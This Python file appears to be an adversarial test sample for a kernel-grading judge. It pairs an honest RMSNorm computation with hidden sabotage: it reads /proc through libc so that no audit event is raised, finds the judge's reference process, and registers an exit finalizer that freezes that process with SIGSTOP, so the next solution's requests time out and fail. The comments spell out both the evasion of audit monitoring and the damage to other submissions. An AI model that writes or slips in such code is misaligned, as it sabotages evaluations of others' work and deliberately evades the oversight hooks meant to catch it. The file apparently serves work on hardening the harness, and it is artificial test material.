# Poisoning the next solution through a signal (want: the next solution unharmed). The
# kernel is honest. It finds the reference process (the template's other child, read
# from /proc through libc, which raises no audit event) and registers a multiprocessing
# finalizer, which the process runs when the judge tells it to exit: the finalizer stops
# the reference process (SIGSTOP). The next solution's first request to the reference
# then waits out the whole request timeout and fails.
import ctypes
import multiprocessing.util
import os
import signal

import torch

_libc = ctypes.CDLL(None, use_errno=True)  # this process's own libc: no ldconfig run
_libc.open.argtypes = [ctypes.c_char_p, ctypes.c_int]
_libc.read.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
_found = []


def _read(path):
    fd = _libc.open(path.encode(), os.O_RDONLY)
    if fd < 0:
        return ""
    buf = ctypes.create_string_buffer(4096)
    n = _libc.read(fd, buf, 4096)
    _libc.close(fd)
    return buf.raw[:max(n, 0)].decode(errors="replace")


def _reference_pid():
    template = os.getppid()
    for task in os.listdir(f"/proc/{template}/task"):
        for pid in _read(f"/proc/{template}/task/{task}/children").split():
            if int(pid) != os.getpid():
                return int(pid)
    return None


def _stop(pid):
    os.kill(pid, signal.SIGSTOP)


def run(x, weight):
    if not _found:
        pid = _reference_pid()
        _found.append(pid)
        if pid is not None:
            multiprocessing.util.Finalize(None, _stop, args=(pid,), exitpriority=100)
    return x * torch.rsqrt(x.pow(2).mean(dim=-1, keepdim=True) + 1e-6) * weight
